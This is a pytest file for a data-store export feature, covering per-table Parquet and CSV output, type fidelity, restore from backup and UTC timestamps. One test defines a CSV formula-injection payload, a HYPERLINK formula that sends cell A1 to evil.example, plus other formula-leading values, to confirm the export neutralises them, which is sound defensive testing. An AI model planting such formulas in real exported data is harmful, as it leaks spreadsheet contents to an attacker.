"""An operator exports the store to read it with other tools: one file per table, Parquet or CSV, the same
rows from DuckDB and from PostgreSQL, with types a reader can rely on."""

from __future__ import annotations

import asyncio
import csv
from datetime import date, datetime, timezone

import duckdb
import pyarrow.parquet as pq
import pytest

from api.database import open_database
from api.event_types import Event
from api.export import export
from api.store import Store, Ticket
from api.tokens import Caller
from tests.api.conftest import FakeClock

ANA = Caller(user="ana", tenant="acme", roles=frozenset({"admin"}))
TABLES = ["answer_feedback", "answers", "content_gaps", "daily_rollups", "events", "schema_version", "search_clicks",
          "searches", "tickets", "votes"]


@pytest.fixture
def busy_store(any_store):
    """A store after a reader searched, opened a result, voted, sent an event and a ticket came in."""
    store = any_store
    store.log_search("s1", ANA, "tab-1", "reset my password", "hybrid", 2, 12.5, ["a", "b"])
    asyncio.run(store.record_click("s1", ANA, "tab-1", "a", 1))
    asyncio.run(store.vote("a", ANA, "tab-1", True, "clear, ana@example.com"))
    asyncio.run(store.record_events([Event("article_view", "tab-1", "a", {"url": "/a/"})], ANA))
    asyncio.run(store.record_ticket(Ticket("T-1", "created", "Locked out", "Cannot log in", datetime(2026, 12, 1, 8, tzinfo=timezone.utc)), "acme"))
    store.queue.write_now(lambda s: s.execute("INSERT INTO daily_rollups VALUES ('acme', DATE '2026-11-30', 'searches', 4)"))
    return store


def test_every_table_goes_to_its_own_parquet_file_with_its_types(busy_store, tmp_path):
    written = export(busy_store, tmp_path / "out", "parquet")
    assert [t.table for t in written] == TABLES
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [f"{t}.parquet" for t in TABLES]
    searches = pq.read_table(tmp_path / "out/searches.parquet").to_pylist()
    assert [(s["search_id"], s["query"], s["results"], s["tenant"]) for s in searches] == [("s1", "reset my password", 2, "acme")]
    assert searches[0]["created_at"] == datetime(2026, 12, 1, 9, tzinfo=timezone.utc)
    votes = pq.read_table(tmp_path / "out/votes.parquet").to_pylist()
    assert votes[0]["helpful"] is True and votes[0]["comment"] == "clear, [email]"  # redacted when stored
    assert pq.read_table(tmp_path / "out/daily_rollups.parquet").to_pylist() == [
        {"tenant": "acme", "day": date(2026, 11, 30), "metric": "searches", "value": 4.0}]
    assert {t.table: t.rows for t in written}["events"] == 1
    assert pq.read_table(tmp_path / "out/answers.parquet").num_rows == 0  # an empty table is still there, with its columns
    assert "answer_id" in pq.read_table(tmp_path / "out/answers.parquet").column_names


def test_csv_files_have_a_header_and_read_the_same_from_either_database(busy_store, tmp_path):
    export(busy_store, tmp_path / "out", "csv")
    with (tmp_path / "out/search_clicks.csv").open(newline="") as file:
        clicks = list(csv.DictReader(file))
    assert [(c["search_id"], c["article_id"], c["rank"]) for c in clicks] == [("s1", "a", "1")]
    with (tmp_path / "out/votes.csv").open(newline="") as file:
        assert next(csv.DictReader(file))["helpful"] == "true"
    read_back = duckdb.sql(f"SELECT ticket_id, occurred_at FROM read_csv('{tmp_path / 'out/tickets.csv'}')").fetchall()
    assert read_back[0][0] == "T-1"
    assert read_back[0][1].astimezone(timezone.utc) == datetime(2026, 12, 1, 8, tzinfo=timezone.utc)


def test_exporting_again_replaces_the_files(busy_store, tmp_path):
    export(busy_store, tmp_path / "out", "parquet")
    busy_store.log_search("s2", ANA, None, "boilers", "hybrid", 5, 3.0, [])
    busy_store.queue.flush()
    again = export(busy_store, tmp_path / "out", "parquet")
    assert {t.table: t.rows for t in again}["searches"] == 2
    assert pq.read_table(tmp_path / "out/searches.parquet").num_rows == 2


def test_an_unknown_format_is_refused(busy_store, tmp_path):
    with pytest.raises(ValueError, match="parquet, csv"):
        export(busy_store, tmp_path / "out", "xlsx")


def test_a_parquet_export_restores_into_a_fresh_store(busy_store, tmp_path):
    """What the operators' guide says to do with a backup: load each file but schema_version into a new store."""
    written = export(busy_store, tmp_path / "backup", "parquet")
    fresh = open_database(tmp_path / "restored", None)
    with fresh.transaction() as session:
        for table in TABLES:
            if table != "schema_version":
                session.execute(f"INSERT INTO {table} SELECT * FROM '{tmp_path / 'backup' / table}.parquet'")
    restored = export(fresh, tmp_path / "again", "parquet")
    fresh.close()
    assert [(t.table, t.rows) for t in restored] == [(t.table, t.rows) for t in written]
    assert pq.read_table(tmp_path / "again/votes.parquet").equals(pq.read_table(tmp_path / "backup/votes.parquet"))


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"help")'


def test_a_csv_cell_a_spreadsheet_would_run_is_quoted_and_parquet_keeps_it_as_stored(busy_store, tmp_path):
    store = busy_store
    store.log_search("s2", Caller(), None, "@sum(a1)", "hybrid", 0, 1.0, [])  # a reader of no tenant, not signed in
    asyncio.run(store.record_ticket(Ticket("T-2", "created", HOSTILE, "-2+3 stopped working", datetime(2026, 12, 1, 9, tzinfo=timezone.utc),
                                           "+ana", "\ttab-2"), "acme"))
    store.queue.write_now(lambda s: s.execute("INSERT INTO daily_rollups VALUES ('acme', DATE '2026-11-29', 'searches', -1)"))
    export(store, tmp_path / "csv", "csv")
    export(store, tmp_path / "parquet", "parquet")
    with (tmp_path / "csv/tickets.csv").open(newline="") as file:
        ticket = {t["ticket_id"]: t for t in csv.DictReader(file)}["T-2"]
    assert (ticket["subject"], ticket["body"], ticket["user_id"], ticket["session_id"]) == \
        ("'" + HOSTILE, "'-2+3 stopped working", "'+ana", "'\ttab-2")
    with (tmp_path / "csv/searches.csv").open(newline="") as file:
        assert {s["search_id"]: s["query"] for s in csv.DictReader(file)}["s2"] == "'@sum(a1)"
    with (tmp_path / "csv/daily_rollups.csv").open(newline="") as file:
        assert {r["day"]: r["value"] for r in csv.DictReader(file)}["2026-11-29"] == "-1.0"  # a number, not text
    stored = {t["ticket_id"]: t for t in pq.read_table(tmp_path / "parquet/tickets.parquet").to_pylist()}["T-2"]
    assert (stored["subject"], stored["user_id"], stored["session_id"]) == (HOSTILE, "+ana", "\ttab-2")


def test_an_empty_text_and_a_null_differ_in_csv_from_either_database(busy_store, tmp_path):
    busy_store.log_search("s2", Caller(), None, "boilers", "hybrid", 1, 1.0, [])  # tenant '', no user, no session
    busy_store.queue.flush()
    export(busy_store, tmp_path / "out", "csv")
    line = next(x for x in (tmp_path / "out/searches.csv").read_text().splitlines() if x.startswith("s2,"))
    assert line.split(",")[2:5] == ['""', "", ""]  # tenant '', user_id and session_id NULL, as DuckDB writes them
    read_back = duckdb.sql(f"SELECT tenant, user_id FROM read_csv('{tmp_path / 'out/searches.csv'}', allow_quoted_nulls = false) "
                          "WHERE search_id = 's2'")
    assert read_back.fetchall() == [("", None)]


def test_postgresql_csv_times_are_utc_whatever_the_session_time_zone(postgres_url, tmp_path):
    berlin = postgres_url + ("&" if "?" in postgres_url else "?") + "options=-c%20TimeZone%3DEurope/Berlin"
    store = Store(open_database(tmp_path / "var", berlin), clock=FakeClock(datetime(2026, 12, 1, 9, tzinfo=timezone.utc)))
    try:
        assert store.read(lambda s: s.execute("SHOW TimeZone")) == [("Europe/Berlin",)]
        store.log_search("s1", ANA, "tab-1", "boilers", "hybrid", 1, 1.0, [])
        store.queue.flush()
        export(store, tmp_path / "out", "csv")
    finally:
        store.close()
    with (tmp_path / "out/searches.csv").open(newline="") as file:
        assert next(csv.DictReader(file))["created_at"] == "2026-12-01 09:00:00+00:00"
